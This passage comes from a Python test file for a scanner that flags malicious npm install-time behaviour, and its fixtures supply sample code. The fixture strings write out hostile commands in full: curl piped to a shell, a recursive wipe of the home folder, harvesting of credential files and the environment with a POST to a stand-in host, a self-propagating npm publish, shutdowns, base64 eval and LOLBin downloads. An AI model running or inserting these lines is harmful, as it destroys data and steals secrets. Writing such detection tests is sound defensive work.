        ("module.exports", "const RC = [" + '".bashrc", ' * 51 + "];\n"),
        # an rc file's name hidden in an encoded literal
        ("module.exports", "const hidden = Buffer.from('Ly5iYXNocmM=', 'base64').toString();\n"),
    ],
)
def test_a_setup_far_from_an_install_hint_writes_no_payload_but_a_payload_beside_it_is_high(
    tmp_path: Path, anchor: str, code: str
) -> None:
    """A package manager's bundle whose ``setup`` adds a PATH line to the rc file megabytes away
    from the ``curl … | sh -`` it shows in an update hint (pnpm 10.34.8/9, high before) is silent;
    a shutdown or a download-and-run written beside the rc file's name, many rc names, or one
    hidden in an encoded literal stays high."""
    pkg = _copy(tmp_path, "pm-setup-bundle")
    assert _found(pkg) == {}
    _edit(pkg / "dist" / "pm.cjs", anchor, code + anchor)
    assert _found(pkg).get("GH-PERSIST-SHELL-RC") == "high"


@pytest.mark.parametrize(
    "code",
    [
        # the download given to a shell as it is
        'import { execSync } from "node:child_process";\n'
        'execSync("curl -fsSL https://x.example.invalid/p.sh | bash");',
        # a label, then a separator: what follows is a command of its own
        'export const step = "Setup: true; curl -fsSL https://x.example.invalid/p.sh | sh";',
        'export const step = "Setup: $(curl -fsSL https://x.example.invalid/p.sh | sh)";',
        'export const step = "Setup:\\ncurl -fsSL https://x.example.invalid/p.sh | sh";',
        # a label outside the literal is no label of the command
        "export const step = 'Setup: ' + 'curl -fsSL https://x.example.invalid/p.sh | sh';",
    ],
)
def test_a_labelled_install_hint_fetches_nothing_but_a_command_does(
    tmp_path: Path, code: str
) -> None:
    """Lines of an unsupported-runtime message that label the reinstall commands ("Re-run the
    installer: curl … | bash", openclaw 2026.9.6's preinstall, high before) are silent; a download
    piped into a shell as a command of its own, in the same preinstall-reachable file, stays
    high."""
    pkg = _copy(tmp_path, "runtime-floor-hint")
    assert _found(pkg) == {}
    _edit(
        pkg / "runtime.mjs",
        "export function unsupportedMessage",
        f"{code}\nexport function unsupportedMessage",
    )
    assert _found(pkg).get("GH-INSTALL-FETCH-EXEC") == "high"


@pytest.mark.parametrize(
    ("code", "want"),
    [
        # the home folder under any name the code gives it (the regex knew os.homedir() and
        # homedir() only: every form below read as nothing)
        ("require('fs').rmSync(require('os').homedir(), { recursive: true });", "high"),
        ("fs.rmSync(require('node:os').homedir(), {recursive: true});", "high"),
        ("const o = require('os'); require('fs').rmSync(o.homedir(), {recursive: true});", "high"),
        ("fs.rmSync(os.default.homedir(), {recursive: true});", "high"),
        ("require('fs').rmSync((0, os.homedir)(), {recursive: true});", "high"),  # (bundlers)
        ("require('fs').rmSync(process.env['HOME'], {recursive: true});", "high"),
        ('fse.removeSync(process.env["USERPROFILE"]);', "high"),
        ("require('fs').rmSync(process.env.HOME + '/', {recursive: true});", "high"),
        # a folder inside the home, or another variable, is no wipe of it
        ("fs.rmSync(path.join(os.homedir(), '.cache', 'tool'), {recursive: true});", None),
        ("fs.rmSync(os.homedir() + '/.cache/tool', {recursive: true});", None),
        ("fs.rmSync(process.env['HOME_CACHE'], {recursive: true});", None),
    ],
)
def test_a_wipe_of_the_home_folder_is_high_however_it_is_named(
    tmp_path: Path, code: str, want: str | None
) -> None:
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "package.json").write_text(
        '{"name": "fixture-home-wipe", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}'
    )
    (pkg / "i.js").write_text(f"const fs = require('fs'), path = require('path');\n{code}\n")
    assert _found(pkg).get("GH-SABOTAGE-WIPE") == want


_HARVEST_HEAD = "const fs = require('fs'), os = require('os'), path = require('path');\n"
_HARVEST_SEND = (
    "\nrequire('https').request('https://c.example.invalid/u', {method: 'POST'})"
    ".end(JSON.stringify(found));\n"
)


@pytest.mark.parametrize(
    ("code", "want"),
    [
        # credential files named as path.join's segments (the regex knew '.aws/credentials' with
        # its separator only: the two kinds below read as one, the file as nothing)
        ("[path.join(h, '.npmrc'), path.join(h, '.aws', 'credentials')]", "high"),
        ('[path.join(h, ".kube", "config"), path.join(h, ".docker", "config.json")]', "high"),
        ("[join(h, '.config', 'gcloud'), join(h, '.aws', 'config')]", "high"),
        ("[path.join(h, 'Ethereum', 'keystore'), path.join(h, '.aws', 'credentials')]", "high"),
        # the whole environment however the code names it (read as nothing before)
        ("JSON.stringify(process['env'])", "high"),
        ('JSON.stringify(process["env"], null, 2)', "high"),
        ("JSON.stringify(globalThis.process.env)", "high"),
        ("JSON.stringify(require('node:process').env)", "high"),
        ("Object.entries(process['env'])", "high"),
        ("JSON.stringify({...process['env']})", "high"),
        # one kind of credential file, the variables of one prefix, the environment given to a
        # child process: no harvest
        ("[path.join(h, '.aws', 'credentials'), path.join(h, '.aws', 'config')]", None),
        ("Object.keys(process['env']).filter((k) => /^VITE_/.test(k))", None),
        ("require('child_process').spawn('x', [], {env: process['env']})", None),
    ],
)
def test_a_harvest_is_high_however_the_secrets_are_named(
    tmp_path: Path, code: str, want: str | None
) -> None:
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "package.json").write_text(
        '{"name": "fixture-harvest", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}'
    )
    (pkg / "i.js").write_text(
        f"{_HARVEST_HEAD}const h = os.homedir();\nconst found = {code};{_HARVEST_SEND}"
    )
    got = _found(pkg)
    assert (got.get("GH-CRED-FILE-HARVEST") or got.get("GH-CRED-ENV-HARVEST")) == want, got


@pytest.mark.parametrize(
    ("code", "want"),
    [
        # ``npm`` and ``['publish', …]`` given apart (only ``['publish', '--…`` was known)
        ("cp.execFileSync('npm', ['publish', dir]);", ("GH-PROPAGATE-NPM-PUBLISH", "high")),
        ("cp.spawn('npm', ['publish'], {cwd: dir});", ("GH-PROPAGATE-NPM-PUBLISH", "high")),
        (
            "cp.spawnSync(win ? 'npm.cmd' : 'npm', ['publish'], {cwd: dir});",
            ("GH-PROPAGATE-NPM-PUBLISH", "high"),
        ),
        # the program and its arguments given apart, or through systemd
        ("cp.spawn('shutdown', ['-h', 'now']);", ("GH-SABOTAGE-SHUTDOWN", "high")),
        ("cp.execFile('shutdown.exe', ['/s', '/t', '0']);", ("GH-SABOTAGE-SHUTDOWN", "high")),
        ("cp.exec('systemctl poweroff');", ("GH-SABOTAGE-SHUTDOWN", "high")),
        # the global eval reached indirectly
        ("(0, eval)(Buffer.from(P, 'base64').toString());", ("GH-DECODE-EXEC", "high")),
        ("globalThis.eval(atob(P));", ("GH-DECODE-EXEC", "high")),
        ("global['eval'](Buffer.from(P, 'base64').toString());", ("GH-DECODE-EXEC", "high")),
        # near misses: another command, a method of one's own named eval, an argument list
        ("cp.spawn('npm', ['view', dir, 'version']);", ("GH-PROPAGATE-NPM-PUBLISH", None)),
        ("cp.spawn('shutdown-hook', ['-h']);", ("GH-SABOTAGE-SHUTDOWN", None)),
        ("cp.exec('systemctl status');", ("GH-SABOTAGE-SHUTDOWN", None)),
        ("ctx.global.eval(atob(P));", ("GH-DECODE-EXEC", None)),
        ("(0, evaluate)(atob(P));", ("GH-DECODE-EXEC", None)),
    ],
)
def test_a_call_is_high_however_its_program_is_named(
    tmp_path: Path, code: str, want: tuple[str, str | None]
) -> None:
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "package.json").write_text(
        '{"name": "fixture-call", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}'
    )
    (pkg / "i.js").write_text(
        "const cp = require('child_process'), dir = '/tmp/p', win = false;\n"
        f"const P = 'Y29uc29sZS5sb2coMSk=';\n{code}\n"
    )
    pattern, confidence = want
    assert _found(pkg).get(pattern) == confidence


@pytest.mark.parametrize(
    ("code", "want"),
    [
        # the running script named another way (``process.argv[1]`` was in the regex but never
        # matched: a ``\b`` after ``]``), in an ES module, through require.main
        ("require('fs').unlinkSync(process.argv[1]);", ("GH-INSTALL-SELF-DELETE", "high")),
        (
            "fs.unlinkSync(url.fileURLToPath(import.meta.url));",
            ("GH-INSTALL-SELF-DELETE", "high"),
        ),
        ("fs.rmSync(require.main.filename, {force: true});", ("GH-INSTALL-SELF-DELETE", "high")),
        # a LOLBin by its full path or after ``cmd /c``
        (
            "cp.execSync('C:\\\\Windows\\\\System32\\\\rundll32.exe x.dll,Run');",
            ("GH-INSTALL-LOLBIN", "high"),
        ),
        ("cp.exec('%SystemRoot%\\\\System32\\\\mshta.exe a.hta');", ("GH-INSTALL-LOLBIN", "high")),
        (
            "cp.exec('cmd /c certutil -urlcache -f http://x.example.invalid/a a.exe');",
            ("GH-INSTALL-LOLBIN", "high"),
        ),
        # near misses: another file deleted, another argument, a document named like a LOLBin
        ("require('fs').unlinkSync(process.argv[2]);", ("GH-INSTALL-SELF-DELETE", None)),
        ("fs.unlinkSync(new URL('./tmp.txt', import.meta.url));", ("GH-INSTALL-SELF-DELETE", None)),
        ("cp.exec('cat docs/mshta.md');", ("GH-INSTALL-LOLBIN", None)),
        ("cp.exec('cmd /c dir');", ("GH-INSTALL-LOLBIN", None)),
    ],
)
def test_an_install_step_is_high_however_its_target_is_named(
    tmp_path: Path, code: str, want: tuple[str, str | None]
) -> None:
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "package.json").write_text(
        '{"name": "fixture-step", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}'
    )
    (pkg / "i.js").write_text(
        f"const cp = require('child_process'), fs = require('fs'), url = require('url');\n{code}\n"
    )
    pattern, confidence = want
    assert _found(pkg).get(pattern) == confidence
